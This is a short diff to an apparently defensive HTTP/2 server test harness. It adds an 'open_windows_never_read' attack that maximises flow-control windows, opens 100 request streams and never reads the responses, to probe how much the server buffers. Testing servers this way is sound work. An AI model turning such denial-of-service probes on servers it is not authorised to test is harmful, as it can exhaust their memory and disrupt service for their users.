@@ -349,6 +349,20 @@ def zero_window(host, port, path):
     return outcome(s, c, 1, window=float(sys.argv[5]) if len(sys.argv) > 5 else READ_WINDOW)
 
 
+def open_windows_never_read(host, port, path):
+    """Opens every window as wide as HTTP/2 allows, asks for `path` on 100
+    streams, then never reads for a few seconds: what the server queues for
+    such a peer is its own bound, not the windows'."""
+    s, c = connect(host, port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 2**31 - 1})
+    c.increment_flow_control_window(2**31 - 1 - 65535)
+    for i in range(100):
+        c.send_headers(1 + 2 * i, base(host, port, path), end_stream=True)
+    send_all(s, c.data_to_send())
+    time.sleep(float(sys.argv[5]) if len(sys.argv) > 5 else 3.0)
+    s.close()
+    return {"outcome": "closed"}
+
+
 def get(host, port, path):
     s, c = connect(host, port)
     c.send_headers(1, base(host, port, path), end_stream=True)
@@ -391,6 +405,7 @@ ATTACKS = {
     "settings_flood": settings_flood,
     "ping_flood": ping_flood,
     "zero_window": zero_window,
+    "open_windows_never_read": open_windows_never_read,
 }
 
 
